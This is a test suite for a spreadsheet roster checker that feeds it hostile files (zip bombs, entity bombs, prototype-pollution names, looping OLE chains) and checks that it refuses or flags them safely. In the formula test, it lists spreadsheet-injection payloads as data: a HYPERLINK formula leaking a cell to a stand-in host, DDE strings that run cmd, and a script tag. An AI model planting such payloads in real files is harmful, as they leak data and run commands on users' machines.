// Every file of the hostile corpus (scripts/make-hostile.mjs) through the built command line: a
// clear answer within 10 s, never a stack trace; then the reader itself, in process, on what the
// command line cannot show (prototype pollution, the limits at their edges, the zip inspector).
import { spawn, spawnSync } from 'node:child_process';
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import zlib from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { analyze, builtinProfile, type Settings } from '../../src/lib/core/index';
import { ReadError, oleDirectoryEntries, readWorkbook } from '../../src/lib/io/read';
import { checkFile, correctedFile } from '../../src/lib/io/pipeline';
import { MAX_CELL_CHARS, MAX_COLUMNS, MAX_ROWS } from '../../src/lib/io/limits';
import { PackageError, readPackage } from '../../src/lib/io/package';
import { HOSTILE, MARKUP_VALUES } from '../../scripts/make-hostile.mjs';
import { HEADER } from '../../scripts/synth.mjs';
import { zipFile } from '../../scripts/zip.mjs';

const root = fileURLToPath(new URL('../../', import.meta.url));
const dir = join(root, 'test/fixtures/hostile');
const hostile = (name: string) => new Uint8Array(readFileSync(join(dir, name)));
const settings: Settings = { hostProvince: '北京市', practical: false, today: '2026-11-22' };
const national = builtinProfile('national');
/** Each file's budget: CPU time of the whole run (every thread), and peak memory. */
const LIMIT_MS = 10_000;
const LIMIT_RSS_KIB = 1.5 * 1024 * 1024;
/** Wall-clock guard against a hang only: generous, since other work may load the machine. */
const HANG_MS = 90_000;
const preload = pathToFileURL(fileURLToPath(new URL('./usage-preload.mjs', import.meta.url))).href;

interface Answer { code: number | number[]; stderr?: RegExp }
interface Expectation extends Answer { name: string; what: string; kind?: string | null; rules?: string[]; cli?: Answer }
const corpus = HOSTILE as Expectation[];

interface Run { code: number | null; stdout: string; stderr: string; cpuMs: number; maxRssKiB: number; timedOut: boolean }
const runs = new Map<string, Run>();

/** `roster-check --json FILE`, with its CPU time and peak memory; killed after HANG_MS. */
function runCli(name: string): Promise<Run> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ['--import', preload, cli, '--json', join(dir, name)], { timeout: HANG_MS, killSignal: 'SIGKILL', stdio: ['ignore', 'pipe', 'pipe', 'pipe'] });
    const out: Buffer[] = [];
    const err: Buffer[] = [];
    const usage: Buffer[] = [];
    child.stdout!.on('data', (b: Buffer) => out.push(b));
    child.stderr!.on('data', (b: Buffer) => err.push(b));
    (child.stdio[3] as NodeJS.ReadableStream).on('data', (b: Buffer) => usage.push(b));
    child.on('close', (code, signal) => {
      const text = Buffer.concat(usage).toString('utf8');
      const u = text ? (JSON.parse(text) as { cpuMs: number; maxRssKiB: number }) : { cpuMs: Number.POSITIVE_INFINITY, maxRssKiB: Number.POSITIVE_INFINITY };
      resolve({ code, stdout: Buffer.concat(out).toString('utf8'), stderr: Buffer.concat(err).toString('utf8'), ...u, timedOut: signal !== null });
    });
  });
}

// Built once for every test file (test/global-setup.ts).
const cli = join(root, 'dist-cli/roster-check.mjs');
beforeAll(async () => {
  // Two at a time: most of each run is node starting up. Each run has its own budget of CPU time
  // (and a hang guard); the whole corpus (93 files) took over 5 minutes on a machine at load 12, so
  // this hook's limit is only a hang guard too.
  const queue = corpus.map((h) => h.name);
  const worker = async () => {
    for (let name = queue.shift(); name !== undefined; name = queue.shift()) runs.set(name, await runCli(name));
  };
  await Promise.all([worker(), worker()]);
}, 1_200_000);

function run(name: string): Run {
  const r = runs.get(name);
  if (!r) throw new Error(`no run for ${name}`);
  return r;
}

interface JsonIssue { rule: string; severity: string; row: number | null; column: string | null; value: string; message: string; fix: string | null }
interface JsonResult { file: string; sheet: string; summary: { attendees: number; errors: number }; issues: JsonIssue[] }

describe('the hostile corpus through roster-check', () => {
  it('has at least 25 files, each made by the generator and described', () => {
    const made = readdirSync(dir).sort();
    expect(corpus.length).toBeGreaterThanOrEqual(25);
    expect(made).toEqual(corpus.map((h) => h.name).sort());
  });

  it.each(corpus.map((h) => [h.name, { ...h, ...h.cli }] as const))('%s: a clear answer within 10 s of CPU and 1.5 GB', (_name, h) => {
    const r = run(h.name);
    expect(r.timedOut, `${h.name} did not finish within ${HANG_MS} ms`).toBe(false);
    expect(r.cpuMs, `${h.name}: CPU time`).toBeLessThan(LIMIT_MS);
    expect(r.maxRssKiB, `${h.name}: peak memory (KiB)`).toBeLessThan(LIMIT_RSS_KIB);
    // Never a stack trace or an internal error, whatever the outcome.
    expect(r.stderr).not.toMatch(/\bat .*:\d+:\d+|内部错误|Error:/);
    if (h.code === 2) {
      expect(r.code).toBe(2);
      const lines = r.stderr.trimEnd().split('\n');
      expect(lines).toHaveLength(1);
      expect(lines[0]).toMatch(/^roster-check: .*：.*[\u4e00-\u9fff]/);
      if (h.stderr) expect(lines[0]).toMatch(h.stderr);
      // Short enough for one line on a clerk's screen.
      expect(lines[0]!.split('：').slice(1).join('：').length).toBeLessThan(120);
      expect(JSON.parse(r.stdout)).toEqual({ file: join(dir, h.name), error: expect.stringMatching(/[\u4e00-\u9fff]/) });
    } else {
      // The corpus's expected exit: 1 where the file has errors (a repeated header), else 0 or 1.
      expect(typeof h.code === 'number' ? [h.code] : h.code).toContain(r.code);
      expect(r.stderr).toBe('');
      const out = JSON.parse(r.stdout) as JsonResult;
      // A checked file says which sheet it checked (whatever its outcome, the answer is a roster's).
      expect(typeof out.sheet).toBe('string');
      for (const rule of h.rules ?? []) expect(out.issues.map((i) => i.rule)).toContain(rule);
    }
  });

  it('says a password-protected workbook must have its password removed in Excel first', () => {
    for (const name of ['encrypted.xlsx', 'encrypted-standard.xlsx', 'encrypted.xls']) {
      const line = run(name).stderr;
      expect(line).toContain('密码');
      expect(line).toMatch(/在 Excel 中取消密码/);
    }
  });

  it('refuses every zip bomb as too large, at once, without inflating it', () => {
    for (const name of ['zip-bomb.xlsx', 'zip-bomb-lying.xlsx', 'zip-bomb-descriptor.xlsx']) {
      const r = run(name);
      expect(r.stderr).toMatch(/解压后过大/);
      expect(r.cpuMs).toBeLessThan(5_000);
    }
  });

  it('reports every formula-looking cell by rule cell.formula, with the text as it is', () => {
    const payloads = ['=HYPERLINK("http://example.invalid/?leak="&E2,"点我")', "+cmd|' /C calc'!A0", '@SUM(A1)', "-2+3+cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', "=cmd|' /C notepad'!'A1'", '=1+1'];
    for (const name of ['formula-cells.xlsx', 'formula-cells.csv']) {
      const out = JSON.parse(run(name).stdout) as JsonResult;
      const flagged = out.issues.filter((i) => i.rule === 'cell.formula').map((i) => i.value);
      expect(flagged.sort()).toEqual([...payloads].sort());
    }
  });

  it('reports markup in cells as plain text, exactly as it is in the file', () => {
    const out = JSON.parse(run('markup-cells.xlsx').stdout) as JsonResult;
    const values = new Set(out.issues.map((i) => i.value));
    for (const v of MARKUP_VALUES as string[]) expect(values, v).toContain(v);
    // And in the Chinese summary: the text itself, not escaped and not interpreted.
    const text = spawnSync(process.execPath, [cli, join(dir, 'markup-cells.xlsx')], { encoding: 'utf8', timeout: LIMIT_MS }).stdout;
    expect(text).toContain('“<script>alert(1)</script>”');
    expect(text).toContain('“&lt;b&gt;粗体&lt;/b&gt;”');
  });

  it('reads what the odd-but-sound files hold', () => {
    const json = (name: string) => JSON.parse(run(name).stdout) as JsonResult;
    expect(json('sheets-200.xlsx')).toMatchObject({ sheet: '学员名单', summary: { attendees: 60, errors: 0 } });
    expect(json('gbk-bom-mixed.csv')).toMatchObject({ summary: { attendees: 60, errors: 0 } });
    expect(json('far-cell.xlsx')).toMatchObject({ summary: { attendees: 60, errors: 0 } });
    expect(json('zip64.xlsx')).toMatchObject({ summary: { attendees: 60, errors: 0 } });
    expect(json('deep-xml.xlsx')).toMatchObject({ summary: { attendees: 60, errors: 0 } });
    expect(json('proto-names.xlsx')).toMatchObject({ sheet: '__proto__', summary: { attendees: 60 } });
    expect(json('proto.csv')).toMatchObject({ summary: { attendees: 60 } });
    // The entity of the "billion laughs" is left as text, never expanded.
    expect(json('entity-bomb.xlsx').issues.map((i) => i.value)).toContain('&lol9;');
    expect(json('xml-entity-bomb.xls')).toMatchObject({ summary: { attendees: 60 } });
    expect(json('xml-entity-bomb.xls').issues.map((i) => i.value)).toContain('&lol9;');
    // The stress cells are reported, not hung on.
    expect(json('regex-stress.xlsx').summary.attendees).toBe(80);
    expect(run('gbk-bom-mixed-open-quote.csv').stderr).toContain('第 31 行');
  });
});

/** Each hostile file read and checked in this process, once: the error it gave, or null. */
const inProcess = new Map<string, unknown>();
function readInProcess(name: string): unknown {
  if (!inProcess.has(name)) {
    let err: unknown = null;
    try {
      checkFile(hostile(name), national, settings);
    } catch (e) {
      err = e;
    }
    inProcess.set(name, err);
  }
  return inProcess.get(name);
}

describe('the reader in process', () => {
  it('leaves Object.prototype and friends untouched after reading every hostile file', { timeout: 300_000 }, () => {
    const protoKeys = Reflect.ownKeys(Object.prototype);
    const arrayKeys = Reflect.ownKeys(Array.prototype);
    const toString = Object.prototype.toString;
    for (const h of corpus) {
      const err = readInProcess(h.name);
      if (err !== null && !(err instanceof ReadError) && (err as Error).name !== 'LocateError') throw err;
    }
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(({} as Record<string, unknown>)['x']).toBeUndefined();
    expect(Reflect.ownKeys(Object.prototype)).toEqual(protoKeys);
    expect(Reflect.ownKeys(Array.prototype)).toEqual(arrayKeys);
    expect(Object.getPrototypeOf(Object.prototype)).toBeNull();
    expect(Object.prototype.toString).toBe(toString);
  });

  it('checks a roster with a cell at XFD1048576, and writes it back with that cell where it was', () => {
    const bytes = hostile('far-cell.xlsx');
    const checked = checkFile(bytes, national, settings);
    expect(checked.roster.summary().attendees).toBe(60);
    const out = correctedFile(bytes, checked);
    const back = readWorkbook(out.bytes).sheets[0]!;
    expect(back.rows).toHaveLength(1048576);
    expect(back.rows[1048575]?.[16383]).toBe(checked.workbook.sheets[0]!.rows[1048575]?.[16383]);
  });

  it('reads sheets named __proto__, constructor and prototype as ordinary sheets', () => {
    const wb = readWorkbook(hostile('proto-names.xlsx'));
    expect(wb.sheets.map((s) => s.name)).toEqual(['__proto__', 'constructor', 'prototype']);
    expect(wb.sheets[1]?.rows).toEqual([['__proto__', 'polluted'], ['constructor', 'prototype']]);
    expect(wb.sheets[0]?.rows[0]?.slice(-3)).toEqual(['__proto__', 'constructor', 'prototype']);
    expect(Object.getPrototypeOf(wb.sheets[0])).toBe(Object.prototype);
    const { located } = analyze(wb, national, settings);
    expect(located.sheetName).toBe('__proto__');
  });

  it('decodes GBK behind a stray UTF-8 BOM, and rows ended by CR LF, LF and CR alike', () => {
    const wb = readWorkbook(hostile('gbk-bom-mixed.csv'));
    expect(wb.csv).toMatchObject({ encoding: 'gb18030', bom: true, delimiter: ',' });
    const rows = wb.sheets[0]!.rows;
    expect(rows).toHaveLength(61);
    expect(rows[0]).toEqual(HEADER);
    for (const row of rows) expect(row).toHaveLength(HEADER.length);
  });

  it('holds the limits exactly at their edges', () => {
    const csv = (text: string) => readWorkbook(new TextEncoder().encode(text));
    const refused = (text: string) => {
      try {
        csv(text);
      } catch (e) {
        return e instanceof ReadError ? e.kind : 'other';
      }
      return null;
    };
    const header = `${HEADER.join(',')}\n`;
    expect(refused(`${header}${'x'.repeat(MAX_CELL_CHARS)}\n`)).toBeNull();
    expect(refused(`${header}${'x'.repeat(MAX_CELL_CHARS + 1)}\n`)).toBe('too-large');
    expect(refused(`${header}"${'x'.repeat(MAX_CELL_CHARS - 1)}""",a\n`)).toBeNull();
    expect(refused(`${header}${','.repeat(MAX_COLUMNS - 1)}\n`)).toBeNull();
    expect(refused(`${header}${','.repeat(MAX_COLUMNS)}\n`)).toBe('too-large');
    expect(refused(`${header}${'a\n'.repeat(MAX_ROWS - 1)}`)).toBeNull();
    expect(refused(`${header}${'a\n'.repeat(MAX_ROWS)}`)).toBe('too-large');
  });

  it('refuses a bomb from its directory before inflating, and a lying one within one slice of output', () => {
    const problem = (name: string) => {
      try {
        readPackage(hostile(name));
      } catch (e) {
        if (e instanceof PackageError) return e.problem;
        throw e;
      }
      return null;
    };
    for (const name of ['zip-bomb.xlsx', 'zip-bomb-lying.xlsx', 'zip-bomb-descriptor.xlsx']) expect(problem(name)).toBe('too-large');
    expect(problem('many-cells.xlsx')).toBe('too-many-cells');
    expect(problem('zip-many-entries.xlsx')).toBe('too-many-entries');
    expect(problem('truncated-tail.xlsx')).toBe('corrupt');
    const pkg = readPackage(hostile('sheets-200.xlsx'));
    expect(pkg.parts.has('xl/worksheets/sheet137.xml')).toBe(true);
    expect(pkg.cells).toBeGreaterThan(60 * 13);
  });

  it('reads the parts exactly as zlib inflates them', () => {
    const data = new TextEncoder().encode('<c r="A1"><v>1</v></c>'.repeat(5000));
    const deflated = zlib.deflateRawSync(data);
    const zip = zipFile([{ name: 'xl/worksheets/sheet1.xml', deflated, crc: 0, size: data.length }]);
    const pkg = readPackage(zip);
    expect(pkg.parts.get('xl/worksheets/sheet1.xml')).toEqual(data);
    expect(pkg.cells).toBe(5000);
  });

  // SheetJS 0.20.3 decodes the entities of inline formula-string cells (t="str", what SheetJS
  // itself writes by default) twice: "&amp;lt;b&amp;gt;" in the file comes back as "<b>", not
  // "&lt;b&gt;". Excel writes text as shared strings, so only files from SheetJS-based exporters are
  // affected; our own corrected files use shared strings. Remove `.fails` once SheetJS is fixed.
  it.fails('KNOWN (SheetJS): reads entity text in t="str" cells exactly', () => {
    const wb = readWorkbook(hostile('str-entities.xlsx'));
    expect(wb.sheets[0]?.rows.flat()).toContain('&lt;b&gt;粗体&lt;/b&gt;');
  });
});

describe('what the reader refuses, by kind', () => {
  it.each(corpus.filter((h) => h.code === 2 && h.kind).map((h) => [h.name, h.kind] as const))('%s → %s', (name, kind) => {
    const err = readInProcess(name);
    expect(err).toBeInstanceOf(ReadError);
    expect((err as ReadError).kind).toBe(kind);
    expect((err as ReadError).message).not.toContain('\n');
  });

  it('reads a workbook SheetJS can read as it did before: the corpus controls', () => {
    const wb = XLSX.read(hostile('sheets-200.xlsx'), { type: 'array' });
    expect(wb.SheetNames).toHaveLength(200);
    expect(readWorkbook(hostile('sheets-200.xlsx')).sheets).toHaveLength(200);
  });
});

describe('the OLE directory count', () => {
  /** A 16 KB OLE header with 4096-byte sectors; `setup` writes the rest. */
  function ole(setup: (dv: DataView) => void): Uint8Array {
    const b = new Uint8Array(4096 * 4);
    b.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    b[0x1e] = 12;
    const dv = new DataView(b.buffer);
    for (let k = 0; k < 109; k++) dv.setUint32(0x4c + 4 * k, 0xffffffff, true);
    setup(dv);
    return b;
  }

  it('ends on an allocation-table chain that points at itself', () => {
    const b = ole((dv) => {
      dv.setUint32(0x44, 0, true);
      for (let k = 0; k < 1023; k++) dv.setUint32(4096 + 4 * k, 0xffffffff, true);
      dv.setUint32(4096 + 4 * 1023, 0, true);
      dv.setUint32(0x30, 1, true);
    });
    // CPU time, not the wall clock: a loaded machine does not make it fail (a loop never ends at all).
    const c0 = process.cpuUsage();
    oleDirectoryEntries(b);
    const c = process.cpuUsage(c0);
    expect((c.user + c.system) / 1000).toBeLessThan(2_000);
  });

  it('calls a directory chain that loops broken', () => {
    const b = ole((dv) => {
      dv.setUint32(0x4c, 0, true); // the allocation table is sector 0
      dv.setUint32(4096 + 4 * 1, 1, true); // sector 1 is followed by sector 1
      dv.setUint32(0x30, 1, true); // the directory starts at sector 1
    });
    expect(oleDirectoryEntries(b)).toBeNull();
  });

  it('counts the entries of a real .xls', () => {
    const wb = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet([HEADER]), '学员名单');
    const xls = new Uint8Array(XLSX.write(wb, { type: 'array', bookType: 'biff8' }) as ArrayBuffer);
    const n = oleDirectoryEntries(xls);
    expect(n).toBeGreaterThanOrEqual(4);
    expect(n).toBeLessThan(64);
  });
});
